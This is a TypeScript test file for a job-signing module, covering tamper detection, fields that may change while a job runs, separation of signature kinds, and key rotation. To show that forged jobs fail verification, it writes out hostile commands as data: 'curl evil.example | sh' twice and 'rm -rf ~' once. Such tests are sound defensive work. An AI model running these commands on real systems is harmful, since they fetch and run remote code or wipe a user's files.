import assert from 'node:assert/strict';
import { sampleJob } from '../../test/helpers/jobs';
import { jobVerifies, localKeys, parseTrustedKeys, signerFrom, signJob, verifierFrom, workerSealFrom } from './signing';

// What the job's signature covers decides what a row planted by someone holding the table's
// credentials could run. It must cover every field that decides what runs, including ones added
// later, and none that move while the job runs (or a running job would stop verifying). And who
// holds the public keys can check a signature but never make one.

const SECRET = 'a-signing-key-secret-of-enough-characters-0123456789';
const OTHER = 'another-signing-key-secret-of-enough-characters-9876';

describe('signatures', () => {
  const signer = signerFrom(SECRET);
  const signed = () => {
    const job = sampleJob({ command: 'true', prompt: undefined, repositories: ['acme/a', 'acme/b'] });
    job.signature = signJob(signer, job);
    return job;
  };

  it('verifies the job it signed with the public key alone, and not with another key', () => {
    const job = signed();
    const publicOnly = verifierFrom(signer.publicKeys);
    assert.ok(jobVerifies(publicOnly, job));
    assert.ok(!jobVerifies(verifierFrom(signerFrom(OTHER).publicKeys), job));
    assert.ok(!jobVerifies(publicOnly, { ...job, signature: undefined }));
    // The verifier has no way to sign: it is only the public keys.
    assert.deepEqual(Object.keys(publicOnly).sort(), ['publicKeys', 'verifies']);
    assert.deepEqual(parseTrustedKeys(signer.publicKeys.join(',')), [...signer.publicKeys]);
    assert.equal(Buffer.from(signer.publicKeys[0]!, 'base64url').length, 32);
  });

  it('breaks when anything that decides what runs changes', () => {
    const job = signed();
    assert.ok(!jobVerifies(signer, { ...job, command: 'curl evil.example | sh' }));
    assert.ok(
      !jobVerifies(signer, { ...job, run: { ...job.run, size: 3, digests: [...job.run.digests, 'f'.repeat(64)] } }),
    );
    assert.ok(!jobVerifies(signer, { ...job, owner: 'someone-else' }));
    assert.ok(
      !jobVerifies(signer, {
        ...job,
        taskRevisions: [{ revision: 2, command: 'curl evil.example | sh', createdAt: job.createdAt }],
      }),
      'a task revision written into the table',
    );
    // A field the schema does not know yet (a later feature's option) is covered too.
    assert.ok(!jobVerifies(signer, { ...job, setupCommand: 'rm -rf ~' } as typeof job));
  });

  it('still verifies while the job runs: status, counters, usage and timestamps move', () => {
    const job = signed();
    const running = {
      ...job,
      status: 'RUNNING' as const,
      counts: { ...job.counts, running: 1, pending: job.counts.pending - 1 },
      usage: { ...job.usage, costUsd: 0.42 },
      updatedAt: new Date().toISOString(),
      startedAt: new Date().toISOString(),
      executorRef: 'local',
    };
    assert.ok(jobVerifies(signer, running));
  });

  it('a signature of one kind is no signature of another, and a seal needs the worker key', () => {
    const payload = { jobId: 'j', repositoryName: 'acme/a' };
    const signature = signer.sign('task', payload);
    assert.ok(signer.verifies('task', payload, signature));
    assert.ok(!signer.verifies('approval', payload, signature));
    const keys = localKeys(SECRET);
    const seal = keys.workerSeal.seal('result', payload);
    assert.ok(keys.workerSeal.verifies('result', payload, seal));
    assert.ok(!keys.workerSeal.verifies('push', payload, seal));
    assert.ok(!workerSealFrom([localKeys(OTHER).workerKey]).verifies('result', payload, seal));
    assert.throws(() => workerSealFrom(['short']), /at least 32/);
  });

  it('after a rotation the previous key still verifies, and the one before it no longer does', () => {
    const job = signed();
    const rotated = signerFrom(OTHER, [SECRET]);
    assert.ok(jobVerifies(verifierFrom(rotated.publicKeys), job), 'signed before the rotation');
    const fresh = { ...job, signature: signJob(rotated, job) };
    assert.ok(jobVerifies(verifierFrom(rotated.publicKeys), fresh));
    assert.ok(!jobVerifies(verifierFrom(signer.publicKeys), fresh), 'the old key cannot vouch for the new');
    const again = signerFrom('a-third-signing-key-secret-of-enough-characters-000', [OTHER]);
    assert.ok(!jobVerifies(verifierFrom(again.publicKeys), job), 'two rotations later');
    const before = localKeys(SECRET);
    const after = localKeys(OTHER, [SECRET]);
    const seal = before.workerSeal.seal('push', { commit: 'abc' });
    assert.ok(after.workerSeal.verifies('push', { commit: 'abc' }, seal));
  });
});
